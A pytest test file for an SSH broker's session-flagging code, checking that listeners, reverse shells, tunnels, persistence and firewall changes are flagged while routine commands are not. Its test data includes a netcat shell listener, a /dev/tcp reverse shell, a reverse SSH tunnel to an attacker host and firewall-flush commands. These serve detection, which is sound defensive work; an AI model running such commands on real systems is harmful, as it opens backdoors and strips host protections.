"""Flags for review: out-of-band servers, listeners, tunnels and persistence are noticed; ordinary work is not."""

from __future__ import annotations

import pytest
from jit_ssh.broker.recording.flags import MAX_FLAGS, flags_in_command, flags_in_output, flags_in_transfer, merge


@pytest.mark.parametrize(
    ("command", "flag"),
    [
        ("mosh-server new -p 60001", "out-of-band server: mosh-server"),
        ("/usr/bin/mosh-server new", "out-of-band server: mosh-server"),
        ("LANG=C mosh-server", "out-of-band server: mosh-server"),
        ("nc -l 4444", "listener: nc -l"),
        ("nc -lvp 4444 -e /bin/sh", "listener: nc -l"),
        ("ncat --listen 8080", "listener: nc -l"),
        ("busybox nc -l -p 1234", "listener: nc -l"),
        ("socat TCP-LISTEN:9000,fork EXEC:/bin/bash", "listener: socat"),
        ("socat tcp4-listen:9000 -", "listener: socat"),
        ("python3 -m http.server 8000", "listener: python -m http.server"),
        ("ssh -R 2222:localhost:22 attacker@example.com", "tunnel: ssh -R/-L/-D/-w from the host"),
        ("ssh -fNR2222:localhost:22 me@host", "tunnel: ssh -R/-L/-D/-w from the host"),
        ("ssh -D 1080 me@host", "tunnel: ssh -R/-L/-D/-w from the host"),
        ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", "persistence: authorized_keys"),
        ("crontab -e", "persistence: scheduled job"),
        ("nohup ./backdoor &", "detached process"),
        ("setsid bash -c 'sleep 100'", "detached process"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse shell: /dev/tcp"),
        ("nft delete table inet jit_ssh", "firewall changed"),
        ("nft flush ruleset", "firewall changed"),
        ("iptables -F", "firewall changed"),
        ("ufw disable", "firewall changed"),
    ],
)
def test_out_of_band_commands_are_flagged(command: str, flag: str) -> None:
    assert flag in flags_in_command(command)


@pytest.mark.parametrize(
    "command",
    [
        "ls -l",
        "df -h /",
        "systemctl status nginx",
        "cat /etc/hostname",
        "grep -l needle file",
        "ssh-keygen -L -f x",
        "echo nc is not listening",
        "tail -n 100 /var/log/syslog",
        "ssh other-host uptime",
        "sudo -i",
    ],
)
def test_ordinary_commands_are_not_flagged(command: str) -> None:
    assert flags_in_command(command) == []


def test_mosh_servers_greeting_is_flagged_from_the_output() -> None:
    assert flags_in_output("MOSH CONNECT 60001 4NeCCgvZFe2RnPgrcU1PQw") == ["out-of-band server: mosh-server"]
    assert flags_in_output("the MOSH CONNECT line") == []


@pytest.mark.parametrize(
    ("op", "flagged"),
    [
        ({"op": "write", "path": "/root/.bashrc"}, True),
        ({"op": "write", "path": "/home/ubuntu/.ssh/authorized_keys"}, True),
        ({"op": "rename", "from": "/tmp/x", "to": "/etc/cron.d/job"}, True),
        ({"op": "setstat", "path": "/etc/sudoers.d/me"}, True),
        ({"op": "symlink", "path": "/root/.profile", "target": "/tmp/evil"}, True),
        ({"op": "read", "path": "/root/.bashrc"}, False),
        ({"op": "write", "path": "/tmp/upload.bin"}, False),
        ({"op": "stat", "path": "/root/.ssh/authorized_keys"}, False),
    ],
)
def test_sensitive_files_changed_over_sftp_are_flagged(op: dict[str, object], flagged: bool) -> None:
    assert bool(flags_in_transfer(op)) is flagged


def test_flags_are_kept_once_each_and_bounded() -> None:
    flags: list[str] = []
    merge(flags, ["a", "a", "b"])
    assert flags == ["a", "b"]
    merge(flags, (str(n) for n in range(100)))
    assert len(flags) == MAX_FLAGS


def test_a_huge_command_is_scanned_in_bounded_time() -> None:
    # Linear patterns over at most 64 KiB: a megabyte of near-matches costs no more than that.
    assert flags_in_command("nc " + "-x " * 500_000) == []
